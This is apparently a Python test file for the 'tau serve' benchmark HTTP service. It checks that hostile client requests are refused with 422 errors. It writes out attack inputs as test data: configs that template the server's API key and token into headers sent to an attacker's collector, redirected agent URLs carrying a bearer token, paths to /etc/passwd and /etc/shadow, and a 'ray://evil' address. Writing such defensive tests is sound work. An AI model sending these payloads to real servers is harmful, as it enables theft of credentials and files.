"""`tau serve` against hostile clients, over real HTTP on 127.0.0.1.

The reproduced attack: an inline `http_config` whose headers are `${VAR}` placeholders
and whose `base_url` is the client's own collector. Before, the server filled them from
its environment (its OpenAI key, its serve token), sent them to the collector and
returned them in trajectories. Now any client-supplied agent options, server file paths
or API bases are refused; agents with options are the operator's registered configs.

The same attack moved up one level (an adapter option at the top level of the body goes
to the adapter too), through the CLI's singular `agent_option`, and over a registered
config (its `agent_url` replaced, its bearer token sent along): a request is an
allow-list of run settings (`guard.CLIENT_FIELDS`), everything else is a 422 naming it.
"""

from __future__ import annotations

import asyncio
import json
import socket
import threading
from collections.abc import AsyncIterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
import uvicorn

from tau_bench.config import config_from_mapping
from tau_bench.service.api import create_app
from tests.tau_bench.service.conftest import AUTH, ORACLE, TOKEN, WAIT, make_settings

SERVER_KEY = "sk-server-secret-0123456789abcdef"
OPERATOR_SECRET = "OPERATOR-REGISTERED-SECRET-123"


class Collector:
    """The attacker's endpoint: records every request it gets."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                owner.seen.append(str(self.headers))
                self.send_response(200)
                self.send_header("content-length", "2")
                self.end_headers()
                self.wfile.write(b"{}")

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(timeout=5)


@pytest.fixture
async def served(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> AsyncIterator[httpx.AsyncClient]:
    """A real uvicorn on a loopback socket, with a secret in its environment and one
    registered agent config."""
    monkeypatch.setenv("OPENAI_API_KEY", SERVER_KEY)
    monkeypatch.setenv("TAU_SERVE_TOKEN", TOKEN)
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(64)
    port = sock.getsockname()[1]
    settings = make_settings(
        tmp_path,
        agent_configs={
            "steady": {"agent_strategy": "oracle", "agent_options": {"timeout": 9}},
            # As `tau serve --agent-configs` reads it: adapter options at the top level.
            "staging-a2a": config_from_mapping(
                {
                    "agent_strategy": "a2a",
                    "agent_url": "http://127.0.0.1:9/",
                    "bearer_token": OPERATOR_SECRET,
                }
            ),
        },
    )
    server = uvicorn.Server(uvicorn.Config(create_app(settings), log_level="warning"))
    serving = asyncio.create_task(server.serve(sockets=[sock]))
    try:
        async with httpx.AsyncClient(
            base_url=f"http://127.0.0.1:{port}", headers=AUTH, timeout=WAIT
        ) as client:
            yield client
    finally:
        server.should_exit = True
        await serving


def inline_http_config(url: str) -> dict[str, Any]:
    return {
        "base_url": url,
        "session": {"mode": "stateless"},
        "headers": {"X-Key": "${OPENAI_API_KEY}", "X-Token": "${TAU_SERVE_TOKEN}"},
        "message": {"path": "/chat", "body": {"m": "{{ messages }}"}},
        "response": {"messages": "reply"},
    }


@pytest.mark.parametrize(
    ("attack", "field"),
    [
        # In agent_options, as first reproduced.
        (lambda url: {"agent_options": {"http_config": inline_http_config(url)}}, "agent_options"),
        # The same option at the top level of the body.
        (lambda url: {"http_config": inline_http_config(url)}, "http_config"),
        (lambda url: {"http-config": inline_http_config(url)}, "http_config"),
        # The CLI's singular spelling, KEY=VALUE items (a file on the server).
        (lambda url: {"agent_option": ["http_config=/etc/passwd"]}, "agent_option"),
        (lambda url: {"agent-option": {"http_config": inline_http_config(url)}}, "agent_option"),
        # The key `config_from_mapping` keeps adapter settings under.
        (
            lambda url: {"__adapter_settings__": {"http_config": inline_http_config(url)}},
            "__adapter_settings__",
        ),
    ],
)
async def test_the_exfiltration_attempt_is_refused(
    served: httpx.AsyncClient, attack: Any, field: str
) -> None:
    collector = Collector()
    try:
        body = {**ORACLE, "agent_strategy": "http", "task_ids": [13], **attack(collector.url)}
        response = await served.post("/runs", json=body)
        assert response.status_code == 422, response.text
        assert response.json()["field"] == field
        assert "agent_config" in response.json()["detail"]
        runs = (await served.get("/runs")).text
    finally:
        collector.close()
    assert collector.seen == []
    assert runs == '{"runs":[]}'
    assert SERVER_KEY not in response.text and TOKEN not in response.text


async def test_a_registered_config_cannot_be_pointed_elsewhere(served: httpx.AsyncClient) -> None:
    """The operator's a2a config carries a bearer token: a request that replaces its URL
    would have that token sent to the request's host."""
    collector = Collector()
    try:
        for option in ("agent_url", "agent-url", "bearer_token", "card_path"):
            body = {
                **ORACLE,
                "agent_strategy": "a2a",
                "agent_config": "staging-a2a",
                "task_ids": [13],
                option: collector.url + "/",
            }
            response = await served.post("/runs", json=body)
            assert response.status_code == 422, response.text
            assert response.json()["field"] == option.replace("-", "_")
        runs = (await served.get("/runs")).text
    finally:
        collector.close()
    assert collector.seen == []
    assert runs == '{"runs":[]}'


@pytest.mark.parametrize(
    "option",
    [
        "credentials_file",  # CES: a file of the server
        "gcp_sa_file",  # Dialogflow: a service-account file of the server
        "api_endpoint",  # Dialogflow: where the server's credentials go
        "emulator",
        "card_path",  # a2a: a file of the server
        "agent_url",
        "base_url",
        "Agent_Options",  # keys are not case-folded: an unknown key, refused as such
        "colour",  # a typo: refused like any setting a request may not give
    ],
)
async def test_no_adapter_option_is_taken_from_a_request(
    served: httpx.AsyncClient, option: str
) -> None:
    response = await served.post("/runs", json={**ORACLE, "task_ids": [13], option: "/etc/x"})
    assert response.status_code == 422, response.text
    assert response.json() == {
        "detail": f"{option}: unknown setting: a request gives run settings only; agent "
        "options are set by the server's operator (name one of its agent configs with "
        "agent_config; GET /agent-configs lists them)",
        "field": option,
    }


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"tasks_file": "/etc/passwd"}, "tasks_file"),
        ({"few_shot_displays_path": "/etc/shadow"}, "few_shot_displays_path"),
        ({"few-shot-displays-path": "/etc/shadow"}, "few_shot_displays_path"),
        ({"api_base": "http://127.0.0.1:9/v1"}, "api_base"),
        ({"user_api_base": "http://127.0.0.1:9/v1"}, "user_api_base"),
        ({"ray_address": "ray://evil:10001"}, "ray_address"),
        ({"agent_config": "nope"}, "agent_config"),
        ({"agent_config": "steady", "agent_strategy": "http"}, "agent_strategy"),
    ],
)
async def test_server_files_urls_and_unknown_configs_are_refused(
    served: httpx.AsyncClient, body: dict[str, Any], field: str
) -> None:
    response = await served.post("/runs", json={**ORACLE, "task_ids": [13], **body})
    assert response.status_code == 422, response.text
    assert response.json()["field"] == field


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"num_trials": 10**12}, "num_trials"),
        ({"num_trials": 101}, "num_trials"),
        ({"max_concurrency": 10**9}, "max_concurrency"),
        # JSON floats: pydantic would take 1000.0 as 1000, past the bound.
        ({"num_trials": 1000.0}, "num_trials"),
        ({"num_trials": 2.0}, "num_trials"),
        ({"max_concurrency": 1e9}, "max_concurrency"),
        ({"max_concurrency": "1000000000"}, "max_concurrency"),
        ({"max_steps": 1e12}, "max_steps"),
        ({"max_steps": 10_001}, "max_steps"),
        # A deadline of a year is no deadline: one silent agent would hold a run slot.
        ({"episode_timeout": 1e12}, "episode_timeout"),
        ({"turn_timeout": 86_401}, "turn_timeout"),
        ({"episode_timeout": 86_400, "turn_timeout": 600.5, "max_steps": 10_000}, None),
        # Ranges with several `domain/` parts count as the run's parser expands them.
        ({"env": "tau3/retail", "task_ids": ["tau3/retail/0-9999"] * 2}, "task_ids"),
        # No task ids: the split (or the index range) is counted once the data is read.
        ({"task_ids": None, "start_index": 0, "end_index": 50, "num_trials": 100}, None),
        ({"task_ids": ["0-999999999999"]}, "task_ids"),
        ({"task_ids": [13], "num_trials": 100, "max_concurrency": 1}, None),
        ({"task_ids": ["0-49"] * 9, "num_trials": 50}, "num_trials"),
    ],
)
async def test_every_requested_resource_is_bounded(
    served: httpx.AsyncClient, body: dict[str, Any], field: str | None
) -> None:
    response = await served.post("/runs", json={**ORACLE, **body})
    if field is None:
        assert response.status_code == 202, response.text
        await served.delete(f"/runs/{response.json()['run_id']}")
        return
    assert response.status_code == 422, response.text
    assert response.json()["field"] == field
    if field == "task_ids":
        assert "10000" in response.json()["detail"]  # the bound, not some later error


async def test_the_episode_bound_holds_without_task_ids(served: httpx.AsyncClient) -> None:
    """The probe's request: τ³ telecom's full split × 100 trials, 228,500 episodes."""
    body = {
        "env": "tau3/telecom",
        "task_split": "full",
        "agent_strategy": "oracle",
        "user_strategy": "scripted",
        "num_trials": 100,
    }
    response = await served.post("/runs", json=body)
    assert response.status_code == 422, response.text
    assert response.json()["field"] == "num_trials"
    assert "228500 episodes; at most 20000" in response.json()["detail"]
    assert (await served.get("/runs")).json() == {"runs": []}


async def test_a_huge_body_is_refused_unread(served: httpx.AsyncClient) -> None:
    response = await served.post(
        "/runs",
        content=b'{"env": "' + b"x" * 2_000_000 + b'"}',
        headers={**AUTH, "content-type": "application/json"},
    )
    assert response.status_code == 413


async def test_a_registered_config_runs_with_its_options(served: httpx.AsyncClient) -> None:
    response = await served.post(
        "/runs", json={**ORACLE, "agent_config": "steady", "task_ids": [13]}
    )
    assert response.status_code == 202, response.text
    view = (await served.get(f"/runs/{response.json()['run_id']}", params={"wait": WAIT})).json()
    assert view["status"] == "completed"
    # The registered options stay on the server: the run shows the config's name.
    assert view["config"]["agent_config"] == "steady"
    assert "agent_options" not in view["config"]
    listed = (await served.get("/agent-configs")).json()
    assert listed == {
        "agent_configs": {
            "staging-a2a": {"agent_strategy": "a2a"},
            "steady": {"agent_strategy": "oracle"},
        }
    }


async def test_a_registered_configs_options_are_not_shown(served: httpx.AsyncClient) -> None:
    response = await served.post(
        "/runs",
        json={**ORACLE, "agent_strategy": "a2a", "agent_config": "staging-a2a", "task_ids": [13]},
    )
    assert response.status_code == 202, response.text
    run_id = response.json()["run_id"]
    view = (await served.get(f"/runs/{run_id}", params={"wait": WAIT})).json()
    assert view["config"]["agent_config"] == "staging-a2a"
    assert "127.0.0.1:9" not in json.dumps(view["config"])  # the operator's agent_url
    for url in ("/runs", f"/runs/{run_id}"):
        assert OPERATOR_SECRET not in (await served.get(url)).text


async def test_the_openapi_schema_needs_the_token(served: httpx.AsyncClient) -> None:
    anonymous = await served.get("/openapi.json", headers={"Authorization": ""})
    assert anonymous.status_code == 401
    schema = await served.get("/openapi.json")
    assert schema.status_code == 200 and "/runs" in schema.json()["paths"]
